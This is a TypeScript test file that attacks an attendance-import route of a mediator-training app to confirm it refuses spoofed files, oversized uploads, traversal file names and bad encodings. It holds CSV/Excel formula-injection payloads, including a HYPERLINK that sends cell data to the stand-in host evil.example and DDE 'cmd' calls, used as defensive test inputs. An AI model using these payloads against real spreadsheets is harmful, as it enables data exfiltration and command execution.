/**
 * The attendance import of an offline training session (security checklist 18, 22, 13), attacked
 * through its real route as the committee manager who runs the session:
 * - files that are not what they claim (bytes vs. name), one byte over the cap, one row too many;
 * - formula payloads (`=HYPERLINK(...)`, `=cmd|...`, `@`, `+`, `-`) in a CSV and as real formula
 *   cells of an .xlsx: stored as the text a person sees, never as a formula, and written inert by
 *   the exports (the archive export carries a session title with a payload);
 * - card numbers of mediators outside the uploader's scope: never recorded (not even with
 *   "import the clean rows only"), and answered exactly like a card nobody holds, whatever the
 *   name typed beside it, so the report does not reveal who exists elsewhere;
 * - path tricks in the file's name (the name only chooses the reader; nothing is stored as a file);
 * - CSV with a UTF-8 byte-order mark, GB 18030 (Excel on a Chinese system), UTF-16 and a
 *   single-byte encoding: read correctly, or refused with a localised message and nothing written.
 */
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { translate } from '#app/lib/i18n.ts'
import { buildWorkbook } from '#app/lib/xlsx/write.server.ts'
import { ATTENDANCE_LIMITS } from '#app/modules/training/attendance-import.ts'
import { loader as archiveLoader } from '#app/routes/_app.training.archive.$personId[.xlsx].tsx'
import * as importRoute from '#app/routes/_app.training.sessions.$sessionId_.import.tsx'
import * as newRoute from '#app/routes/_app.training.sessions.new.tsx'
import { testDb, testDialect } from '#tests/fixtures/db.ts'
import { createMediator } from '#tests/fixtures/factories.ts'
import { makeRequest } from '#tests/fixtures/request.ts'
import { CHAOYANG, HAIDIAN, type Outcome, type World, buildWorld, call, serialized } from './world.ts'

const root = fs.mkdtempSync(path.join(os.tmpdir(), 'tiaojie-attendance-attacks-'))

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A2,"优秀")',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  "-2+3+cmd|' /C calc'!A0",
]
const TITLE_PAYLOAD = '=HYPERLINK("http://evil.example/","2026年调解技巧培训")'

let world: World
let sessionId: string
/** Card numbers of mediators in the manager's committee (in scope), one per payload. */
const inScope: { card: string; name: string; personId: string }[] = []
/** A Chaoyang mediator (another district) and a Haidian mediator of another committee. */
const outside: { card: string; name: string; personId: string }[] = []

async function withCard(personId: string, card: string) {
  await testDb().updateTable('mediators').set({ card_number: card }).where('person_id', '=', personId).execute()
  const person = await testDb().selectFrom('people').select('name').where('id', '=', personId).executeTakeFirstOrThrow()
  return { card, name: person.name, personId }
}

function importPath(mode: 'all' | 'valid' = 'all') {
  return `/training/sessions/${sessionId}/import${mode === 'valid' ? '?mode=valid' : ''}`
}

function upload(bytes: Uint8Array | string, name: string, mode: 'all' | 'valid' = 'all'): Promise<Outcome> {
  const form = new FormData()
  form.append('file', new File([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], name))
  return call(importRoute.action, importPath(mode), { cookie: world.users.hdManager.cookie, form, params: { sessionId } })
}

function csv(rows: string[][]): string {
  const quote = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)
  return `${[['工作证号', '姓名', '考核结果'], ...rows].map((r) => r.map(quote).join(',')).join('\r\n')}\r\n`
}

async function written(): Promise<{ records: number; audits: number }> {
  const records = await testDb()
    .selectFrom('training_records')
    .select((eb) => eb.fn.countAll().as('n'))
    .where('session_id', '=', sessionId)
    .executeTakeFirstOrThrow()
  const audits = await testDb()
    .selectFrom('audit_log')
    .select((eb) => eb.fn.countAll().as('n'))
    .where('action', '=', 'training.attendance_imported')
    .executeTakeFirstOrThrow()
  return { records: Number(records.n), audits: Number(audits.n) }
}

function filesUnder(dir: string): string[] {
  if (!fs.existsSync(dir)) return []
  return fs.readdirSync(dir, { recursive: true }).map(String)
}

/** A 400 naming an error message that exists, with its text, in both languages. */
function expectLocalisedRefusal(outcome: Outcome, key: string, label: string) {
  expect(outcome.status, label).toBe(400)
  const data = outcome.data as { error?: string; params?: Record<string, string | number> }
  expect(data.error, label).toBe(key)
  for (const locale of ['zh-CN', 'en'] as const) {
    const text = translate(locale, key as Parameters<typeof translate>[1], data.params)
    expect(text, `${label} (${locale})`).not.toBe(key)
    expect(text, `${label} (${locale})`).not.toMatch(/\{\w+\}/)
  }
}

async function clearAttendance() {
  await testDb().deleteFrom('training_records').where('session_id', '=', sessionId).execute()
}

beforeAll(async () => {
  process.env.TIAOJIE_UPLOAD_DIR = path.join(root, 'uploads')
  world = await buildWorld(testDb())
  for (let i = 0; i < FORMULAS.length + 1; i++) {
    const created = await createMediator(testDb(), { org_id: world.orgs.hdCommittee, person: { region_code: HAIDIAN } })
    inScope.push(await withCard(created.person!.id, `HD-ATK-${String(i).padStart(4, '0')}`))
  }
  outside.push(await withCard(world.people.cyMediator.id, 'CY-ATK-0001'))
  outside.push(await withCard(world.people.hdOther.id, 'HD2-ATK-0001'))
  const cy2 = await createMediator(testDb(), { org_id: world.orgs.cyCommittee, person: { region_code: CHAOYANG } })
  outside.push(await withCard(cy2.person!.id, 'CY-ATK-0002'))
  const created = await call(newRoute.action, '/training/sessions/new', {
    cookie: world.users.hdManager.cookie,
    form: {
      title: TITLE_PAYLOAD,
      kind: 'topic',
      format: 'classroom',
      organiser: '海淀区司法局',
      organiserLevel: 'district',
      regionCode: HAIDIAN,
      startDate: '2026-04-02',
      endDate: '2026-04-03',
      hours: '8',
      trainer: '',
      location: '',
    },
  })
  expect(created.status).toBe(302)
  sessionId = created.location!.split('/').at(-1)!
})

afterAll(() => {
  Reflect.deleteProperty(process.env, 'TIAOJIE_UPLOAD_DIR')
  fs.rmSync(root, { recursive: true, force: true })
})

describe(`attendance import attacks (${testDialect()})`, () => {
  it('refuses files whose bytes are not what the name says, with a localised message and nothing written', async () => {
    const sheet = new Uint8Array(
      await buildWorkbook([
        { name: 'a', columns: [{ header: '工作证号' }, { header: '姓名' }], rows: [[inScope[0]!.card, inScope[0]!.name]] },
      ]),
    )
    const pdf = new TextEncoder().encode('%PDF-1.4\n%%EOF\n')
    const exe = new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0])
    const zipNotXlsx = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 8, 0, 1, 2, 3, 4, 5, 6, 7, 8, 9])
    const before = await written()
    for (const [bytes, name, key] of [
      [pdf, 'attendance.xlsx', 'training.attendanceImport.error.type'],
      [exe, 'attendance.csv', 'training.attendanceImport.error.type'],
      [sheet, 'attendance.csv', 'training.attendanceImport.error.type'],
      [sheet, 'attendance.xls', 'training.attendanceImport.error.type'],
      [sheet, 'attendance.xlsx.exe', 'training.attendanceImport.error.type'],
      [
        new TextEncoder().encode(csv([[inScope[0]!.card, inScope[0]!.name, '']])),
        'attendance.xlsx',
        'training.attendanceImport.error.type',
      ],
      [zipNotXlsx, 'attendance.xlsx', 'training.attendanceImport.error.unreadable'],
    ] as const) {
      expectLocalisedRefusal(await upload(bytes, name), key, name)
    }
    expect(await written()).toEqual(before)
  })

  it('refuses a file one byte over the cap and a file one row too long, writing nothing', async () => {
    const before = await written()
    const big = new Uint8Array(ATTENDANCE_LIMITS.maxBytes + 1).fill(0x20)
    big.set(new TextEncoder().encode(csv([[inScope[0]!.card, inScope[0]!.name, '']])))
    expectLocalisedRefusal(await upload(big, 'attendance.csv'), 'training.attendanceImport.error.tooLarge', 'cap + 1 byte')

    const rows = Array.from({ length: ATTENDANCE_LIMITS.maxRows + 1 }, (_, i) => [`NOPE-${i}`, '张三', ''])
    expectLocalisedRefusal(await upload(csv(rows), 'attendance.csv'), 'training.attendanceImport.error.tooManyRows', 'csv rows + 1')
    const book = new Uint8Array(
      await buildWorkbook([{ name: 'a', columns: [{ header: '工作证号' }, { header: '姓名' }, { header: '考核结果' }], rows }]),
    )
    expectLocalisedRefusal(await upload(book, 'attendance.xlsx'), 'training.attendanceImport.error.tooManyRows', 'xlsx rows + 1')
    expect(await written()).toEqual(before)
  })

  it('stores formula payloads of a CSV as the plain text typed, never as a formula', async () => {
    await clearAttendance()
    const rows = FORMULAS.map((f, i) => [inScope[i]!.card, inScope[i]!.name, f])
    const outcome = await upload(csv(rows), 'attendance.csv')
    expect(outcome.status, JSON.stringify(outcome.data)).toBe(302)
    const stored = await testDb()
      .selectFrom('training_records')
      .select(['person_id', 'assessment'])
      .where('session_id', '=', sessionId)
      .execute()
    const byPerson = new Map(stored.map((r) => [r.person_id, r.assessment]))
    FORMULAS.forEach((f, i) => expect(byPerson.get(inScope[i]!.personId)).toBe(f))
  })

  it('keeps only the displayed result of real formula cells in an .xlsx, as text', async () => {
    await clearAttendance()
    const book = new ExcelJS.Workbook()
    const sheet = book.addWorksheet('参训人员')
    sheet.addRow(['工作证号', '姓名', '考核结果'])
    sheet.addRow([inScope[0]!.card, inScope[0]!.name, { formula: 'HYPERLINK("http://evil.example/","优秀")', result: '优秀' }])
    sheet.addRow([inScope[1]!.card, inScope[1]!.name, { formula: "cmd|' /C calc'!A0", result: { error: '#REF!' } }])
    sheet.addRow([inScope[2]!.card, inScope[2]!.name, { formula: 'CONCAT("=1","+1")', result: '=1+1' }])
    // A formula where the card number should be: the cached text is what counts.
    sheet.addRow([{ formula: `"${inScope[3]!.card}"`, result: inScope[3]!.card }, inScope[3]!.name, '合格'])
    const outcome = await upload(new Uint8Array(await book.xlsx.writeBuffer()), 'attendance.xlsx')
    expect(outcome.status, JSON.stringify(outcome.data)).toBe(302)
    const stored = await testDb()
      .selectFrom('training_records')
      .select(['person_id', 'assessment'])
      .where('session_id', '=', sessionId)
      .execute()
    const byPerson = new Map(stored.map((r) => [r.person_id, r.assessment]))
    expect(byPerson.get(inScope[0]!.personId)).toBe('优秀')
    expect(byPerson.get(inScope[1]!.personId)).toBeNull()
    expect(byPerson.get(inScope[2]!.personId)).toBe('=1+1')
    expect(byPerson.get(inScope[3]!.personId)).toBe('合格')
    for (const r of stored) expect(r.assessment ?? '').not.toMatch(/HYPERLINK|cmd\|/)
  })

  it('writes user text with a formula payload inert in the export (the session title in the training archive)', async () => {
    const personId = inScope[0]!.personId
    const response = (await archiveLoader({
      request: makeRequest(`/training/archive/${personId}.xlsx`, { cookie: world.users.hdManager.cookie }),
      params: { personId },
      context: {},
    })) as Response
    expect(response.status).toBe(200)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(await response.arrayBuffer())
    const cells: ExcelJS.Cell[] = []
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)))
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false)
    const texts = cells.map((c) => String(c.value ?? ''))
    expect(texts).toContain(`'${TITLE_PAYLOAD}`)
    expect(texts).not.toContain(TITLE_PAYLOAD)
  })

  it('never records a card outside the scope, and answers it exactly like a card nobody holds', async () => {
    await clearAttendance()
    const [cy, hdOther, cy2] = outside as [(typeof outside)[0], (typeof outside)[0], (typeof outside)[0]]
    const rows = [
      [inScope[0]!.card, inScope[0]!.name, ''], // row 2: clean
      [cy.card, cy.name, ''], // row 3: another district, right name
      [cy.card.replace('CY', 'CX'), cy.name, ''], // row 4: nobody's card, same name
      [hdOther.card, hdOther.name.slice(0, 1), ''], // row 5: another committee, wrong name
      ['NOBODY-0001', '随便写的名字', ''], // row 6: nobody's card, wrong name
      [cy2.card, '随便写的名字', ''], // row 7: another district, wrong name
    ]
    for (const mode of ['all', 'valid'] as const) {
      await clearAttendance()
      const outcome = await upload(csv(rows), 'attendance.csv', mode)
      const report = outcome.data as { imported: number; bad: { rowNumber: number; problems: unknown[] }[] }
      expect(report.imported, mode).toBe(mode === 'valid' ? 1 : 0)
      const problems = new Map(report.bad.map((r) => [r.rowNumber, JSON.stringify(r.problems)]))
      expect([...problems.keys()], mode).toEqual([3, 4, 5, 6, 7])
      expect(new Set(problems.values()).size, `${mode}: every outsider row answers the same`).toBe(1)
      // Nothing the uploader did not type comes back: no ids, not the registered name of row 5.
      const text = serialized(outcome)
      for (const o of outside) expect(text, mode).not.toContain(o.personId)
      expect(text, mode).not.toContain(hdOther.name)
      const recorded = await testDb().selectFrom('training_records').select('person_id').where('session_id', '=', sessionId).execute()
      expect(
        recorded.map((r) => r.person_id),
        mode,
      ).toEqual(mode === 'valid' ? [inScope[0]!.personId] : [])
    }
    // The audit entry counts rows; it names nobody.
    const audits = await testDb()
      .selectFrom('audit_log')
      .select('detail')
      .where('action', '=', 'training.attendance_imported')
      .where('record_id', '=', sessionId)
      .execute()
    for (const a of audits) for (const o of outside) expect(String(a.detail)).not.toContain(o.name)
  })

  it('uses the file name only to choose a reader: path tricks import normally and leave no file behind', async () => {
    for (const name of ['../../../../tmp/attendance.csv', '..\\..\\attendance.csv', '/etc/attendance.csv', '%2e%2e%2fattendance.csv']) {
      await clearAttendance()
      const outcome = await upload(csv([[inScope[5]!.card, inScope[5]!.name, '合格']]), name)
      expect(outcome.status, name).toBe(302)
      expect((await written()).records, name).toBe(1)
    }
    expect(filesUnder(root)).toEqual([])
    expect(fs.existsSync('/tmp/attendance.csv')).toBe(false)
  })

  it('reads CSV with a UTF-8 byte-order mark and GB 18030; refuses UTF-16 and other encodings clearly, writing nothing', async () => {
    const text = csv([[inScope[5]!.card, inScope[5]!.name, '合格']])
    await clearAttendance()
    const bom = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(text)])
    expect((await upload(bom, 'attendance.csv')).status, 'UTF-8 with BOM').toBe(302)
    await clearAttendance()
    // GB 18030 bytes of the same text, as Excel on a Chinese system saves CSV.
    expect((await upload(new Uint8Array(gb18030(text)), 'attendance.csv')).status, 'GB 18030').toBe(302)
    expect((await written()).records).toBe(1)

    await clearAttendance()
    const before = await written()
    const utf16 = new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]))
    expectLocalisedRefusal(await upload(utf16, 'attendance.csv'), 'training.attendanceImport.error.type', 'UTF-16')
    // Big5 / Latin-1 bytes are not UTF-8 and read as GB 18030 into headers nobody wrote: the
    // required columns are missing, which the message names.
    const latin1 = new Uint8Array(Buffer.from('Kartennummer,Name\r\nHD-ATK-0005,M\xfcller\r\n', 'latin1'))
    expectLocalisedRefusal(await upload(latin1, 'attendance.csv'), 'training.attendanceImport.error.missingColumns', 'Latin-1')
    expect(await written()).toEqual(before)
  })
})

/** GB 18030 bytes of `text` (ASCII and two-byte characters): Node decodes GB 18030 but has no encoder. */
function gb18030(text: string): Buffer {
  const decoder = new TextDecoder('gb18030')
  const table = new Map<string, number[]>()
  for (let hi = 0x81; hi <= 0xfe; hi++)
    for (let lo = 0x40; lo <= 0xfe; lo++) {
      if (lo === 0x7f) continue
      const ch = decoder.decode(new Uint8Array([hi, lo]))
      if (ch.length === 1 && !table.has(ch)) table.set(ch, [hi, lo])
    }
  const out: number[] = []
  for (const ch of text) {
    const code = ch.charCodeAt(0)
    if (code < 0x80) out.push(code)
    else {
      const bytes = table.get(ch)
      if (!bytes) throw new Error(`no GB 18030 bytes for ${ch}`)
      out.push(...bytes)
    }
  }
  return Buffer.from(out)
}
